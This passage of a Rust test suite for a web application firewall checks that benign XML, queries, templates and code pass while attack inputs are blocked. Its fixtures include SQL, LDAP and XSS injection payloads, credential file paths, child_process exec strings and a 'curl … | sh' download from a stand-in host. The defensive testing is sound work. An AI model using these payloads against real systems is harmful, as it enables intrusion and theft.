            assert!(!o.blocked && rule(&o, 3001).is_none(), "{v}: {o:?}");
        }
    }
    for q in [
        "../../../../root/.bash_history",
        "/home/alice/.ssh/id_rsa",
        "/root/.mysql_history",
        "/home/deploy/.aws/credentials",
        "/root/.gnupg/secring.gpg",
        "/home/u/.config/gcloud/credentials.db",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 3001) == Some(5), "{q}: {o:?}");
        }
    }

    // Holdout58's GROQ query: `pt::text(body)` is a namespaced function, no cast (4212); casts
    // still count, also those whose type takes a modifier.
    let groq = "*[_type == \"post\" && publishedAt < now()] | order(publishedAt desc) [0...10] { _id, title, \"excerpt\": pt::text(body)[0..200] }";
    for o in as_field_and_query(&waf, groq) {
        assert!(!o.blocked && rule(&o, 4212).is_none(), "{o:?}");
    }
    for q in ["'1'::text", "1::int", "' or 1::int=1--", "x'::jsonb", "1::varchar(10)||version()", "'a'::text ||'b'"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(rule(&o, 4212).is_some(), "{q}: {o:?}");
    }

    // A document whose root declares a namespace of its own names some elements as HTML does
    // (a dive log's `<link ref>`, a PLC project's `<body>` with its documentation under an
    // `xhtml:` prefix, a map's `<Style id>`): its own vocabulary, as an upload and as a field.
    let upload = |doc: &str| {
        let body = format!(
            "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"doc.xml\"\r\nContent-Type: application/xml\r\n\r\n{doc}\r\n--B--\r\n"
        );
        post("/files", "multipart/form-data; boundary=B", &body, &waf)
    };
    let uddf = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<uddf xmlns=\"http://www.streit.cc/uddf/3.2/\" version=\"3.2.3\">\n  <gasdefinitions><mix id=\"ean32\"><name>EAN32</name><o2>0.32</o2></mix></gasdefinitions>\n  <profiledata><repetitiongroup id=\"rg1\"><dive id=\"d412\">\n    <tankdata><link ref=\"ean32\"/><tankvolume>0.0111</tankvolume></tankdata>\n    <samples><waypoint><divetime>0</divetime><depth>0.0</depth></waypoint></samples>\n  </dive></repetitiongroup></profiledata>\n</uddf>";
    let plc = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<project xmlns=\"http://www.plcopen.org/xml/tc6_0201\" xmlns:xhtml=\"http://www.w3.org/1999/xhtml\">\n  <types><pous><pou name=\"FB_LayerCounter\" pouType=\"functionBlock\">\n    <interface><inputVars><variable name=\"i_xCaseIn\"><type><BOOL /></type><documentation><xhtml:p>1 = column, 2 = interlock</xhtml:p></documentation></variable></inputVars></interface>\n    <body>\n      <ST><xhtml:p><![CDATA[rt(CLK := i_xCaseIn);\nq_iCount := ctu.CV;]]></xhtml:p></ST>\n    </body>\n  </pou></pous></types>\n</project>";
    let kml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<kml xmlns=\"http://www.opengis.net/kml/2.2\">\n  <Document>\n    <name>Trailheads</name>\n    <Style id=\"th\"><IconStyle><Icon><href>http://maps.example/shapes/hiker.png</href></Icon></IconStyle></Style>\n    <Placemark><name>Canto Cochino</name><styleUrl>#th</styleUrl><Point><coordinates>-3.88967,40.75214,1035</coordinates></Point></Placemark>\n  </Document>\n</kml>";
    for doc in [uddf, plc, kml] {
        assert!(context::own_vocabulary(doc.to_ascii_lowercase().as_bytes()), "{doc}");
        assert!(!upload(doc).blocked, "{doc}");
        for o in as_field_and_query(&waf, doc) {
            assert!(!o.blocked, "{doc}: {o:?}");
        }
    }
    // Those elements where they load, relate, set or style something, under a prefix (where a
    // prefix may be XHTML's), with no namespace of the document's own, or with XHTML's as the
    // default, are HTML's.
    let ns = |inner: &str| {
        format!("<?xml version=\"1.0\"?>\n<doc xmlns=\"urn:example:doc\">\n  <item>a</item>\n  {inner}\n</doc>")
    };
    for doc in [
        ns("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"/>"),
        ns("<link href=\"https://evil.example/x.css\"/>"),
        ns("<link rel=\"import\"/>"),
        ns("<style>@import url(https://evil.example/x.css);</style>"),
        ns("<style>body{background:url(https://evil.example/t.gif)}</style>"),
        ns("<body onload=\"alert(1)\"><item>b</item></body>"),
        ns("<body background=\"javascript:alert(1)\"><item>b</item></body>"),
        ns("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/>"),
        ns("<meta name=\"referrer\" content=\"unsafe-url\"/>"),
        ns("<base href=\"https://evil.example/\"/>"),
        ns("<script>alert(1)</script>"),
        ns("<iframe src=\"https://evil.example/\"></iframe>"),
        ns("<h:body xmlns:h=\"http://www.w3.org/1999/xhtml\" onload=\"alert(1)\"><item>b</item></h:body>"),
        ns("<h:link xmlns:h=\"http://www.w3.org/1999/xhtml\" ref=\"a\"/>"),
        "<doc>\n  <item>a</item>\n  <link ref=\"ean32\"/>\n</doc>".to_string(),
        "<doc xmlns=\"http://www.w3.org/1999/xhtml\">\n  <item>a</item>\n  <body><item>b</item></body>\n</doc>"
            .to_string(),
    ] {
        assert!(!context::own_vocabulary(doc.to_ascii_lowercase().as_bytes()), "{doc}");
    }
    for doc in [
        ns("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"/>"),
        ns("<style>@import url(https://evil.example/x.css);</style>"),
        ns("<body onload=\"alert(1)\"><item>b</item></body>"),
        ns("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/>"),
        ns("<base href=\"https://evil.example/\"/>"),
    ] {
        assert!(upload(&doc).blocked, "{doc}");
        for o in as_field_and_query(&waf, &doc) {
            assert!(o.blocked, "{doc}: {o:?}");
        }
    }
}

#[test]
fn a_command_word_at_the_start_counts_at_level_2_only_when_it_runs() {
    let pl2 = waf_with(r#"{"paranoia_level": 2}"#);
    let has = |o: &Outcome| o.matches.iter().any(|m| m.rule_id == 3212);
    // A tool's or a field's name: the word alone, or before punctuation other than a separator.
    for v in ["python", "node", "id,name,email", "service: api", "cat", "time"] {
        let o = outcome(&pl2, &format!("/q?x={}", query_escaped(v)));
        assert!(!has(&o), "{v}: {o:?}");
    }
    // Run: an argument, a separator, a redirection, a versioned binary with an argument, a
    // command after a separator, a recon word alone (also split by quotes).
    for v in ["time;", "nohup sh x", "vi<x", "python3.10 cmd", ";id", "x|vi", "'wh'oami", "whoami", "cat/etc/passwd"] {
        let o = outcome(&pl2, &format!("/q?x={}", query_escaped(v)));
        assert!(has(&o), "{v}: {o:?}");
    }
}

#[test]
fn holdout59_and_60_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // A client that names the charset it reads (Selenium's `application/json; charset=utf-8`)
    // asks for nothing unusual; a code page outside the common ones does (1019).
    for accept in ["application/json; charset=utf-8", "text/plain; charset=UTF-8"] {
        let o = waf.outcome(&waf.inspect_head(&get("/wd/hub/status", &[("accept", accept)])));
        assert!(!o.blocked && rule(&o, 1019).is_none(), "{accept}: {o:?}");
    }
    for accept in ["text/html; charset=utf-7", "text/html;q=0.9;charset=utf-8,*/*;charset=utf-16"] {
        let o = waf.outcome(&waf.inspect_head(&get("/wd/hub/status", &[("accept", accept)])));
        assert!(o.blocked && rule(&o, 1019) == Some(5), "{accept}: {o:?}");
    }

    // A `#` glued to a number after a quote that closes a quoted word is a number sign (a
    // nursery's container sizes); after the value's first quote, or before anything but a
    // number, it is a comment that cuts off the rest (4208).
    let list = "15 × Ilex glabra 'Shamrock' #3\r\n8 × Hydrangea arborescens 'Annabelle' #5\r\n25 × Schizachyrium scoparium 'Standing Ovation' #1";
    let o = form_post(&waf, &format!("company=Blue+Ridge&plant_list={}", query_escaped(list)));
    assert!(!o.blocked && rule(&o, 4208).is_none(), "{o:?}");
    for o in as_field_and_query(&waf, "vote for 'Annabelle' #2 this year") {
        assert!(!o.blocked, "{o:?}");
    }
    for q in ["admin'#", "admin' #1", "admin\" #12", "x' #cmt"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 4208) == Some(5), "{q}: {o:?}");
        }
    }

    // A search's boolean group of truncated terms is no LDAP filter component; a wildcard that
    // closes the application's own component, or one with its assertion, is (1016).
    for o in as_field_and_query(&waf, "\"forklift\" NEAR/10 (eval* OR certif*)") {
        assert!(!o.blocked && rule(&o, 1016).is_none(), "{o:?}");
    }
    for q in ["*)(uid=*))(|(uid=*", "admin*)((|userPassword=*)", "(cn=adm*)", "x*)", "(x*)(|(a=b))"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 1016).is_some(), "{q}: {o:?}");
        }
    }

    // An e-mail template: Outlook's conditional comments, namespace declarations on `<html>`, a
    // head with an inert stylesheet, placeholders for links. Its markup cannot act, so it is no
    // active markup (4100, 4104) and no response-splitting document (1006).
    let email = concat!(
        "<!DOCTYPE html>\n<html lang=\"en\" xmlns=\"http://www.w3.org/1999/xhtml\" xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\">\n",
        "<head>\n<meta charset=\"utf-8\">\n<title>{{subject}}</title>\n",
        "<!--[if mso]>\n<noscript><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml></noscript>\n<![endif]-->\n",
        "<style>\n  @media (max-width: 620px) { .stack { display: block !important; } }\n</style>\n</head>\n",
        "<body style=\"margin:0;padding:0;\">\n",
        "<!--[if mso]><table role=\"presentation\" width=\"600\"><tr><td><![endif]-->\n",
        "<p style=\"margin:0 0 16px;\">Hi {{firstName}}, your box is ready.</p>\n",
        "<!--[if !mso]><!-->\n<a href=\"{{manageUrl}}\" style=\"color:#ffffff;\">Manage my box</a>\n<!--<![endif]-->\n",
        "<!--[if mso]></td></tr></table><![endif]-->\n</body>\n</html>\n"
    );
    let o = json_post(&waf, &serde_json::json!({ "source": email }).to_string());
    assert!(!o.blocked && rule(&o, 1006).is_none() && rule(&o, 4100).is_none(), "{o:?}");
    for (label, doc) in [
        ("script in a hidden block", email.replace("<o:PixelsPerInch>", "<script>alert(1)</script><o:PixelsPerInch>")),
        (
            "handler in a hidden block",
            email.replace("<tr><td><![endif]", "<tr><td><img src=x onerror=alert(1)><![endif]"),
        ),
        ("comment closed by --!>", email.replace("<noscript>", "--!><script>alert(1)</script><noscript>")),
        (
            "script after a revealed opener",
            email.replace("<!--[if !mso]><!-->\n", "<!--[if !mso]><!--><script>alert(1)</script>\n"),
        ),
        ("CR LF before the document", format!("x\r\n\r\n{email}")),
        ("script in the body", email.replace("</body>", "<script>alert(1)</script></body>")),
    ] {
        let o = json_post(&waf, &serde_json::json!({ "source": doc }).to_string());
        assert!(o.blocked, "{label}: {o:?}");
    }
}

#[test]
fn a_css_selectors_pseudo_element_is_no_postgresql_cast() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    // Scrapy's and parsel's `::text` and `::attr(…)` in a selector: the whole value, or a quoted
    // string in a spider's source (4212).
    for v in [
        "article.event-card h3.event-title a::text",
        "div.quote > span.text::text",
        "td:nth-child(2)::text",
        "a.next::attr(href)",
        "ul#results li[data-id] .price::text, .sku::text",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked && rule(&o, 4212).is_none(), "{v}: {o:?}");
        }
    }
    let spider = "import scrapy\n\nclass EventsSpider(scrapy.Spider):\n    name = \"events\"\n\n    def parse(self, response):\n        for ev in response.css(\"div.event\"):\n            yield {\n                \"title\": ev.css(\"h3.event-title a::text\").get(default=\"\").strip(),\n                \"branch\": ev.css(\".event-branch::text\").get(),\n                \"starts\": ev.css(\"time::attr(datetime)\").get(),\n            }\n        next_page = response.css(\"nav.pager a[rel='next']::text\").get()\n";
    let o = json_post(&waf, &serde_json::json!({ "file": spider }).to_string());
    assert!(!o.blocked && rule(&o, 4212).is_none(), "{o:?}");
    // A cast after a name, a literal, a call or a number still counts, and so does a selector
    // with a JSON operator beside it.
    for q in [
        "password::text",
        "1::text",
        "'1'::text",
        "version()::text",
        "x' and 1=cast(current_user::text as int)--",
        "a.b::text ->> 'x'",
        "1 or 'a'::text = 'a'",
        "Great product, really happy with it and the delivery was quick'::text or '1'='1",
        "x'::text or 'a.b c'",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(rule(&o, 4212).is_some(), "{q}: {o:?}");
        }
    }
}

#[test]
fn a_spreadsheet_formulas_and_or_calls_are_no_sql_keywords() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    // Airtable, Sheets and Excel formulas call AND and OR as functions right after `(` or `,`:
    // nothing SQL has (4214).
    for f in [
        "IF(\n  AND({Status} != \"Done\", IS_BEFORE({Due date}, TODAY())),\n  \"⚠️ Overdue by \" & DATETIME_DIFF(TODAY(), {Due date}, 'days') & \" days\",\n  IF({Status} = \"Done\", \"✅\", \"On track\")\n)",
        "=IF(OR(A2=\"Paid\", B2>=C2), \"closed\", \"open\")",
        "IF(AND({Qty} > 0, OR({Region} = 'EU', {Region} = 'UK')), {Qty} * {Price}, 0)",
    ] {
        for o in as_field_and_query(&waf, f) {
            assert!(!o.blocked && rule(&o, 4214).is_none(), "{f}: {o:?}");
        }
    }
    // Between operands they are SQL's keywords, spaced or glued to a parenthesis.
    for q in [
        "1' and if(ascii(substr(user(),1,1))>64,1,0) and '1'='1",
        "if(now()=sysdate(),1,0) or(1)",
        "-1 or if(1=1,1,0) and 1",
        "x' or if(length(database())>3,1,0) or(1)='1",
        "concat(0x3a,version()) and 1",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(rule(&o, 4214).is_some(), "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout63_to_65_headers_types_and_snippets_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    let head = |headers: &[(&str, &str)]| waf.outcome(&waf.inspect_head(&get("/api/orders", headers)));

    // The Referer names the page a browser came from: a PHP page or a path segment named
    // `sess_…` on a web server is no upload of a script or session file (3307). A file name
    // still is, and so is a PHP script's URL in an argument (a remote inclusion).
    for referer in
        ["https://shop.example/checkout.php", "https://app.example/octave/sess_31", "http://x.example/app.php/orders"]
    {
        let o = head(&[("referer", referer)]);
        assert!(!o.blocked && rule(&o, 3307).is_none(), "{referer}: {o:?}");
    }
    for (name, value) in [
        ("referer", "https://shop.example/../../tmp/sess_abc123"),
        ("referer", "/var/lib/php/sessions/sess_abc123"),
        ("x-filename", "shell.php"),
        ("x-filename", "sess_d8ew88tqmabdcokhumchy8htqm"),
    ] {
        let o = head(&[(name, value)]);
        assert!(o.blocked && rule(&o, 3307).is_some(), "{name}: {value}: {o:?}");
    }
    let o = outcome(&waf, "/module/ajax?src=https://[2001:db8::29c8]/gecko.php");
    assert!(o.blocked && rule(&o, 3307).is_some(), "{o:?}");

    // SPARQL 1.1 Protocol's registered types are read as text: a query passes, a script in it
    // still scores (1010 no longer counts).
    let query = "PREFIX foaf: <http://xmlns.com/foaf/0.1/>\nSELECT ?name (COUNT(?paper) AS ?papers)\nWHERE {\n  ?paper <http://purl.org/dc/terms/creator> ?person .\n  ?person foaf:name ?name .\n}\nGROUP BY ?name\nORDER BY DESC(?papers)\nLIMIT 20\n";
    let o = post("/repositories/scholarly", "application/sparql-query", query, &waf);
    assert!(!o.blocked && rule(&o, 1010).is_none(), "{o:?}");
    let update = "PREFIX ex: <https://data.example/ns#>\nINSERT DATA { GRAPH <https://data.example/g> { ex:s1 ex:status \"archived\" . } }\n";
    let o = post("/repositories/scholarly/statements", "application/sparql-update", update, &waf);
    assert!(!o.blocked && rule(&o, 1010).is_none(), "{o:?}");
    let o = post(
        "/repositories/x",
        "application/sparql-query",
        "# <script>alert(1)</script>\nSELECT * WHERE { ?s ?p ?o }",
        &waf,
    );
    assert!(blocked_category(&o, Category::Xss), "{o:?}");
    let o = post("/repositories/x", "application/x-sparql-results", "x", &waf);
    assert!(rule(&o, 1010).is_some(), "{o:?}");
    // A structured suffix on any top-level type is parsed as its syntax (a glTF scene is JSON);
    // JavaScript's older registered names and an e-mail message are read as text (holdouts 66
    // and 67, after the round).
    let o = post(
        "/v1/assets/chair/scene.gltf",
        "model/gltf+json",
        r#"{"asset": {"version": "2.0"}, "scenes": [{"nodes": [0]}]}"#,
        &waf,
    );
    assert!(!o.blocked && rule(&o, 1010).is_none(), "{o:?}");
    let o =
        post("/v1/assets/x.gltf", "model/gltf+json", r#"{"asset": {"generator": "<script>alert(1)</script>"}}"#, &waf);
    assert!(blocked_category(&o, Category::Xss), "{o:?}");
    let js = "// @ts-check\nimport {themes} from 'prism-react-renderer';\nexport default { title: 'Acme', url: 'https://docs.acme.example' };\n";
    let o = post("/v1/files/docusaurus.config.js", "application/javascript; charset=utf-8", js, &waf);
    assert!(!o.blocked && rule(&o, 1010).is_none(), "{o:?}");
    let mail = "From: News <news@acme.example>\r\nTo: seed@inbox.example\r\nSubject: Spring sale\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nOur spring sale starts Monday.\r\n";
    let o = post("/v1/spam-check", "message/rfc822", mail, &waf);
    assert!(rule(&o, 1010).is_none(), "{o:?}");
    for ct in ["application/x-tcl", "message/x-unknown", "application/vnd.ms-excel"] {
        let o = post("/v1/x", ct, "x", &waf);
        assert!(rule(&o, 1010).is_some(), "{ct}: {o:?}");
    }

    // Zig's builtin `@import("std")` is no dynamic JavaScript import (4106); `import("…")` is.
    let zig = "const std = @import(\"std\");\n\npub fn main() !void {\n    const stdout = std.io.getStdOut().writer();\n    try stdout.print(\"{d}\\n\", .{42});\n}\n";
    for o in as_field_and_query(&waf, zig) {
        assert!(!o.blocked && rule(&o, 4106).is_none(), "{o:?}");
    }
    for q in ["import('https://evil.example/x.js')", "x=1;import(\"//evil.example/p.js\")", "$import('a')"] {
        for o in as_field_and_query(&waf, q) {
            assert!(rule(&o, 4106).is_some(), "{q}: {o:?}");
        }
    }

    // A style file's DOCTYPE that only names its DTD is no markup that can act (4100); one with
    // an internal subset declaring a script still is.
    let qml = "<!DOCTYPE qgis PUBLIC 'http://mrcc.com/qgis.dtd' 'SYSTEM'>\n<qgis version=\"3.36.2\"><renderer-v2 type=\"singleSymbol\"/></qgis>";
    let o = post("/api/layers/parcels/style", "application/xml", qml, &waf);
    assert!(!o.blocked && rule(&o, 4100).is_none(), "{o:?}");
    let xxe = "<!DOCTYPE qgis [<!ENTITY x \"<script>alert(1)</script>\">]>\n<qgis>&x;</qgis>";
    let o = post("/api/layers/parcels/style", "application/xml", xxe, &waf);
    assert!(o.blocked && rule(&o, 4100) == Some(5), "{o:?}");

    // A notebook cell's `%%sql` magic runs the query under it: `GROUP BY 1, 2` of a whole query
    // is no column enumeration (4213); after data, or commented out, it is.
    let cell = "%%sql\nSELECT date_trunc('month', signup_date) AS cohort, plan, count(*) AS n\nFROM analytics.customers\nWHERE signup_date >= '2024-01-01'\n  AND country <> 'US'\nGROUP BY 1, 2\nORDER BY 1, 2;";
    for o in as_field_and_query(&waf, cell) {
        assert!(!o.blocked && rule(&o, 4213).is_none(), "{o:?}");
    }
    for q in ["%%sql\n1 order by 5--", "1 group by 1,2--", "%sql x' order by 3#"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout63_to_65_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // 4300: a `Set-Cookie:` named after other text on its line (a sequence diagram documenting a
    // login) and a VCL's comparison of the `Cookie` header set no cookie.
    for v in [
        "@startuml\nactor User as U\nparticipant \"Web App\" as W\nU -> W : POST /login (email, password)\nalt password matches\n  W --> U : Set-Cookie: session=...\nelse invalid\n  W --> U : 401\nend\n@enduml",
        "sequenceDiagram\n    U->>W: POST /login\n    W->>+A: verify(email, pw)\n    A-->>-W: 200 Set-Cookie: sid=...; HttpOnly\n",
        "sub vcl_recv {\n    if (req.http.Cookie !~ \"(^|;\\s*)(sessionid|cart)=\") { unset req.http.Cookie; }\n    if (req.http.cookie == \"a=b\") { return (pass); }\n}\n",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked && rule(&o, 4300).is_none(), "{v}: {o:?}");
        }
    }
    // An assignment, a cookie string with its attributes, `document.cookie`, a `<meta>` that sets
    // one and a header line (at the start, or after a line break, also in a diagram) still do.
    for q in [
        "document.cookie=\"sid=1234; path=/\"",
        "x.cookie=\"sessionid=1234\"",
        "d.cookie += \"sid=2\"",
        ".cookie;expires=",
        "a.cookie(\"x\"); domain=.example.dom",
        "<meta http-equiv=\"set-cookie\" content=\"sid=1\">",
        "<script>document.cookie=\"sessionid=1234; domain=.example.dom\";</script>",
        "Set-Cookie: sid=evil",
        "x\r\nSet-Cookie: sid=evil",
        "x\n  Set-Cookie: sid=evil",
        "@startuml\nA -> B : x\nSet-Cookie: sid=evil\n@enduml",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 4300) == Some(5), "{q}: {o:?}");
        }
    }

    // 4100/4104: a Graphviz graph, its attribute lists (`style="rounded,filled"`) and an
    // HTML-like label of inert tags with presentational attributes; pandas' DataFrame HTML, whose
    // `<style scoped>` only lays out the table that carries its class.
    let dot = "digraph deps {\n  rankdir=LR;\n  node [shape=box, style=\"rounded,filled\", fillcolor=\"#eef2ff\"];\n  \"api-gateway\" -> \"auth-svc\" [label=\"gRPC\"];\n  \"orders-svc\" -> \"payments-svc\" [label=\"HTTP/2\", style=dashed];\n  legend [shape=plaintext, label=<<TABLE BORDER=\"0\"><TR><TD><FONT COLOR=\"red\">red</FONT> = async</TD></TR></TABLE>>];\n}\n";
    let frame = "<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type { vertical-align: middle; }\n    .dataframe thead th { text-align: right; }\n</style>\n<table border=\"1\" class=\"dataframe\">\n  <thead>\n    <tr style=\"text-align: right;\"><th></th><th>plan</th></tr>\n  </thead>\n  <tbody>\n    <tr><th>0</th><td>basic</td></tr>\n  </tbody>\n</table>\n</div>";
    for v in [dot, "strict graph { a -- b [style=bold]; }", frame] {
        let o = post("/render", "text/plain", v, &waf);
        assert!(!o.blocked && rule(&o, 4100).is_none() && rule(&o, 4104).is_none(), "{v}: {o:?}");
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    assert!(context::dot_graph(dot.to_ascii_lowercase().as_bytes()));
    assert!(!context::dot_graph(b"graphql { user { id } }"));
    // A label that acts, a handler or a script URL in the graph, markup after it; a stylesheet
    // on the page's elements or on a class the value's markup does not carry, one that loads, a
    // handler beside an inert sheet.
    let label = |l: &str| dot.replace("<FONT COLOR=\"red\">red</FONT>", l);
    for (q, rules) in [
        (label("<img src=x onerror=alert(1)>"), &[4100, 4102, 4104][..]),
        (label("<script>alert(1)</script>"), &[4100, 4101]),
        (label("<iframe src=\"https://evil.example/\"></iframe>"), &[4100, 4104]),
        (dot.replace("style=dashed", "style=dashed onmouseover=alert(1) x=y"), &[4102]),
        (dot.replace("label=\"gRPC\"", "URL=\"javascript:alert(1)\""), &[4103]),
        (dot.replace("style=dashed", "style=\"x:expression(alert(1))\""), &[4105]),
        (format!("{dot}<svg onload=alert(1)>"), &[4100, 4102]),
        (frame.replace(".dataframe thead th", "body"), &[4100, 4104]),
        (frame.replace(".dataframe thead th", ".login-form"), &[4100, 4104]),
        (frame.replace("text-align: right; }", "background: url(https://evil.example/t.gif) }"), &[4100, 4104]),
        (frame.replace("<style scoped>", "<style scoped>\n@import 'https://evil.example/x.css';"), &[4100, 4104]),
        (frame.replace("<td>basic</td>", "<td onclick=alert(1)>basic</td>"), &[4100, 4102]),
    ] {
        let o = post("/render", "text/plain", &q, &waf);
        assert!(o.blocked && rules.iter().any(|&id| rule(&o, id) == Some(5)), "{q}: {o:?}");
    }

    // 3502: a Node.js stack trace names an ES module's frames by `file:///` URIs.
    let trace = "Generating single mermaid chart\nError: Evaluation failed: Error: Lexical error on line 7.\n    at ExecutionContext._evaluate (/usr/local/lib/node_modules/puppeteer-core/lib/cjs/ExecutionContext.js:229:15)\n    at async renderMermaid (file:///usr/local/lib/node_modules/@mermaid-js/mermaid-cli/src/index.js:266:22)\n    at file:///app/bin/render.mjs:12:3";
    let o = json_post(&waf, &serde_json::json!({ "results": [{ "status": "error", "stderr": trace }] }).to_string());
    assert!(!o.blocked && rule(&o, 3502).is_none(), "{o:?}");
    assert!(context::stack_frame_uris(trace.to_ascii_lowercase().as_bytes()));
    // A URI outside a frame line, a frame's place that goes up or is no position, one frame
    // alone, another scheme: each still counts.
    for q in [
        "file:///etc/passwd".to_string(),
        format!("{trace}\nfile:///etc/passwd"),
        trace.replace("/app/bin/render.mjs", "/app/../../etc/passwd"),
        trace.replace("render.mjs:12:3", "render.mjs"),
        trace.replace("at file:///app/bin/render.mjs:12:3", "at x (file:///etc/passwd) file:///etc/shadow:1:1"),
        "    at async main (file:///etc/passwd:1:1)".to_string(),
        trace.replace("file:///app/bin/render.mjs:12:3", "gopher://127.0.0.1:70/_x:1:2"),
    ] {
        for o in as_field_and_query(&waf, &q) {
            assert!(o.blocked && rule(&o, 3502) == Some(5), "{q}: {o:?}");
        }
    }

    // 3403: Erlang maps are no interpolation; a Ruby program (a Vagrantfile) interpolates by
    // design, and its provisioning script's `&& sudo` is a script's (3200): both weak, one
    // program's signal.
    let config = "[\n  {chat_srv, [{port, 8080}, {motd, <<\"Welcome! Be nice & don't spam :)\">>}]},\n  {kernel, [{logger, [{handler, default, logger_std_h, #{config => #{file => \"log/chat.log\"}}}]}]}\n].\n";
    for v in [config, "#{level => info, 'my-key' := \"x.log\", 1 => #{}}"] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked && rule(&o, 3403).is_none(), "{v}: {o:?}");
        }
    }
    let vagrantfile = "# -*- mode: ruby -*-\nVagrant.configure(\"2\") do |config|\n  config.vm.box = \"acme/ubuntu-2204\"\n  config.vm.hostname = \"dev-#{ENV.fetch('USER', 'box')}\"\n  config.vm.provider \"virtualbox\" do |vb|\n    vb.memory = 4096\n  end\n  config.vm.provision \"shell\", inline: <<-SHELL\n    if [ -d /srv/app ]; then\n      sudo apt-get update -qq && sudo apt-get install -y jq\n    fi\n  SHELL\nend\n";
    let o = json_post(&waf, &serde_json::json!({ "path": "Vagrantfile", "content": vagrantfile }).to_string());
    assert!(!o.blocked && rule(&o, 3403) == Some(3) && rule(&o, 3200).is_none(), "{o:?}");
    assert!(context::is_code(vagrantfile.to_ascii_lowercase().as_bytes()));
    assert!(!context::is_code(b"if you can, please bring:\n- a towel\nend of list"));
    assert!(!context::is_code(b"do this\nand that\nend"));
    // Interpolation that calls, a map beside it, an item that is no `key =>`, a Handlebars
    // constructor after a map; a Vagrantfile that pipes a download into a shell.
    for q in [
        "#{require.main.constructor._load('child_process').spawn('foo',['bar','bar'])}",
        "#{process.binding(foo).spawn(foo2)}",
        "\"#{File.read(\"/etc/passwd\")}\"",
        "#{a => 1, b => 2} #{require('child_process').exec('id')}",
        "#{x => 1, require('child_process').exec('id')}",
        "#{a => 1} {{constructor.constructor('alert(1)')()}}",
        "#{a => \"#{process.exit()}\"}",
        "#{a => global.process.exit()",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 3403) == Some(5), "{q}: {o:?}");
        }
    }
    let o = json_post(
        &waf,
        &serde_json::json!({ "content": vagrantfile.replace("sudo apt-get install -y jq", "curl -s http://evil.example/x | sh") })
            .to_string(),
    );
    assert!(o.blocked && rule(&o, 3200) == Some(5), "{o:?}");
}

#[test]
fn holdout66_and_67_relative_paths_in_files_are_weak_and_traversals_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    // A file of several lines refers to its neighbours one or two levels up (3000 weak).
    for file in [
        "import os\nimport sys\n\nsys.path.insert(0, os.path.abspath(\"../src\"))\nproject = \"acme-cli\"\n",
        "Configuration\n-------------\n\n.. literalinclude:: ../examples/config.toml\n   :language: toml\n",
        "vlib work\nvlog -sv +incdir+../rtl ../rtl/async_fifo.sv ../tb/tb_async_fifo.sv\nvsim -voptargs=+acc work.tb\n",
        "#usda 1.0\n(\n    subLayers = [\n        @../../sq010/sq010_set.usda@,\n        @./sh0040_anim.usda@\n    ]\n)\n",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "source": file }).to_string());
        assert!(!o.blocked && rule(&o, 3000) == Some(3), "{file}: {o:?}");
    }
    // Deeper climbs, a system directory, a one-line value, encoded or backslashed steps, `.../`.
    for v in [
        "../../../etc/passwd",
        "../src",
        "line one\n../../../../app/config/database.yml",
        "notes\n../../etc/shadow",
        "notes\n../../proc/self/environ",
        "notes\n..%2f..%2fconfig",
        "notes\n..%2F..%2Fconfig",
        "notes\n../../ETC/passwd",
        "notes\n..\\..\\boot.ini",
        "notes\n.../.../x",
        "notes\nsee ../x/..",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "source": v }).to_string());
        assert!(o.blocked, "{v}: {o:?}");
    }
}

#[test]
fn a_quoted_table_name_before_its_column_bracket_breaks_out_of_nothing() {
    let waf = waf_with("{}");
    // DAX names a column as `'Table'[Column]` (holdout67): the quote closes a name, and the
    // query after it is a whole statement of its own (4203 weak).
